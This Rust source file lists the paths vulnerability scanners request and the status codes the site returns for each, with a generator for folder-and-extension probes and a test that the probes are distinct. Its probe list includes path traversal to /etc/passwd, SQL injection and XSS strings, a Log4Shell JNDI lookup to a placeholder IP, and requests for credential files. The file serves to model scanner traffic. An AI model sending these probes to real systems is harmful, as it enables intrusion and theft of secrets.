//! What a vulnerability scanner asks for, and what this site answers.

/// Paths that scanners try, with the status this site gives.
const PROBES: [(&str, u16); 48] = [
    ("/.env", 403),
    ("/.git/config", 403),
    ("/.git/HEAD", 403),
    ("/wp-login.php", 404),
    ("/wp-admin/setup-config.php", 404),
    ("/xmlrpc.php", 404),
    ("/phpmyadmin/index.php", 404),
    ("/pma/index.php", 404),
    ("/admin/", 403),
    ("/admin/login", 404),
    ("/administrator/index.php", 404),
    ("/manager/html", 404),
    ("/server-status", 403),
    ("/actuator/env", 404),
    ("/actuator/heapdump", 404),
    ("/cgi-bin/test.cgi", 404),
    ("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", 400),
    ("/..%2f..%2f..%2fetc%2fpasswd", 400),
    ("/.aws/credentials", 403),
    ("/.ssh/id_rsa", 403),
    ("/.DS_Store", 404),
    ("/backup.zip", 404),
    ("/backup.sql", 404),
    ("/db.sql.gz", 404),
    ("/site.tar.gz", 404),
    ("/config.php.bak", 404),
    ("/config.yml", 404),
    ("/web.config", 404),
    ("/.htpasswd", 403),
    ("/composer.json", 404),
    ("/package.json", 404),
    ("/Dockerfile", 404),
    ("/debug/pprof/", 404),
    ("/console/", 404),
    ("/solr/admin/info/system", 404),
    ("/jenkins/script", 404),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("/owa/auth/logon.aspx", 404),
    ("/login.action", 404),
    ("/api/v1/users", 404),
    ("/api/v2/admin", 403),
    ("/search?q=%27%20OR%201%3D1--", 200),
    ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200),
    ("/books/1%27%20UNION%20SELECT%201,2--", 404),
    ("/?x=${jndi:ldap://198.51.100.9/a}", 200),
    ("/.well-known/security.txt", 200),
    ("/robots.txt", 200),
    ("/old/", 404),
];

/// Words for the second pass, in which a scanner walks folders and endings.
const WORDS: [&str; 16] = [
    "test", "dev", "old", "new", "tmp", "data", "upload", "files", "private", "internal", "beta",
    "stage", "logs", "dump", "users", "shop",
];

/// Endings of the second pass.
const ENDINGS: [&str; 6] = ["/", ".php", ".bak", ".zip", ".txt", "/index.php"];

/// How many distinct probes there are.
pub(crate) const PROBE_COUNT: u16 = 48 + 16 * 6;

/// The path of a probe in two parts, and its status.
pub(crate) fn probe(number: u16) -> (&'static str, &'static str, u16) {
    let number = usize::from(number % PROBE_COUNT);
    if let Some((path, status)) = PROBES.get(number) {
        return (path, "", *status);
    }
    let number = number - PROBES.len();
    let word = WORDS.get(number / ENDINGS.len()).copied().unwrap_or("test");
    (word, ENDINGS.get(number % ENDINGS.len()).copied().unwrap_or("/"), 404)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_probe_is_another_path() {
        let paths: BTreeSet<_> = (0..PROBE_COUNT).map(probe).collect();
        assert_eq!(paths.len(), usize::from(PROBE_COUNT));
        assert_eq!(probe(PROBE_COUNT), probe(0));
    }
}
